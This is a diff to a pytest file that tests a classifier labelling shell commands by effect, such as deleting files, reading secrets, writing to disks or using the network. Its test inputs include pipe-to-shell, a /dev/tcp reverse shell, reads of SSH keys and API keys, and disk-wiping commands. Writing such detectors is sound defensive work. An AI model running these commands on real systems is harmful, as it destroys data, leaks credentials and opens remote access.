@@ -109,9 +109,40 @@ def test_code_without_effects_has_no_warnings(code: str) -> None:
         ("curl http://x | sh", "Runs code it builds:", "sh"),
         ("# a comment\nrm x", "Deletes files:", "x"),
         ("cat > out.txt <<EOF\nit's\nEOF", "Writes files:", "out.txt"),
-        ("cat > out.txt <<EOF\nit's\nEOF", "Not checked:", "part of the command can't be read"),
+        ("echo 'a", "Not checked:", "part of the command can't be read"),
         ("rm \\\n  x", "Deletes files:", "x"),
         ("bash -c 'rm x'", "Runs code it builds:", "bash -c rm x"),
+        ("bash -c 'rm x'", "Deletes files:", "x"),
+        (r"\rm x", "Deletes files:", "x"),
+        ("ls | xargs -n 1 rm", "Deletes files:", ""),
+        ("find . -name x -exec rm {} +", "Deletes files:", "{}"),
+        ("find . -delete", "Deletes files:", "find . -delete"),
+        ("for f in *; do shred $f; done", "Deletes files:", "$f"),
+        ("echo $(rm x)", "Deletes files:", "x"),
+        ("git clean -fd", "Deletes files:", "git clean -fd"),
+        ("git reset --hard HEAD~1", "Discards changes:", "git reset --hard HEAD~1"),
+        ("git -C x checkout -- f", "Discards changes:", "git -C x checkout -- f"),
+        ("git push --force origin a", "Overwrites history:", "git push --force origin a"),
+        ("git push origin +a", "Overwrites history:", "git push origin +a"),
+        ("dd if=a of=/dev/sda bs=1M", "Writes to a disk:", "/dev/sda"),
+        ("mkfs.ext4 /dev/sdb1", "Writes to a disk:", "mkfs.ext4 /dev/sdb1"),
+        ("cat a > /dev/nvme0n1", "Writes to a disk:", "/dev/nvme0n1"),
+        ("dd if=a of=b", "Writes files:", "b"),
+        ("ls &> all.txt", "Writes files:", "all.txt"),
+        ("tar xzf a.tgz", "Writes files:", "tar xzf a.tgz"),
+        ("curl -o a http://x", "Writes files:", "curl -o a http://x"),
+        ("chmod -R 777 .", "Changes permissions:", "chmod -R 777 ."),
+        ("kill -9 1", "Stops processes:", "kill -9 1"),
+        ("systemctl stop x", "Stops processes:", "systemctl stop x"),
+        ("env", "Reads secrets:", "env"),
+        ("echo $OPENAI_API_KEY", "Reads secrets:", "echo $OPENAI_API_KEY"),
+        ("cat ~/.ssh/id_rsa", "Reads secrets:", "~/.ssh/id_rsa"),
+        ("wc -l < .env", "Reads secrets:", ".env"),
+        ("bash -i >& /dev/tcp/1.2.3.4/80", "Uses the network:", "/dev/tcp/1.2.3.4/80"),
+        ("$x y", "Runs code it builds:", "$x y"),
+        ("eval ls", "Runs code it builds:", "eval ls"),
+        ("python -c 'x'", "Runs code it builds:", "python -c x"),
+        ("{sys.executable} -m pip install x", "Installs packages:", "python -m pip install x"),
     ],
 )
 def test_commands_that_have_effects_are_named(command: str, title: str, detail: str) -> None:
@@ -119,7 +150,32 @@ def test_commands_that_have_effects_are_named(command: str, title: str, detail: 
 
 
 @pytest.mark.parametrize(
-    "command", ["ls -l | head", "grep rm x.txt 2>/dev/null", "git status", "python x.py", "make test 2>&1"]
+    "command",
+    [
+        *(
+            "ls -l | head",
+            "grep rm x.txt 2>/dev/null",
+            "git status",
+            "python x.py",
+            "make test 2>&1",
+            "git checkout -b x",
+        ),
+        *(
+            "cat <<EOF\nrm x\nEOF",
+            "tar tf a.tgz",
+            "for f in *.c; do wc $f; done",
+            "git stash list",
+            "env A=1 ls",
+            "cat $HOME/x",
+        ),
+        *(
+            "find . -name '*.py' | sort | uniq -c",
+            "echo 'sudo rm -rf /'",
+            "[ -f x ] && echo yes",
+            "ls # rm x",
+            "sed -n 1p f",
+        ),
+    ],
 )
 def test_commands_without_effects_have_no_warnings(command: str) -> None:
     assert shell(command) == {}
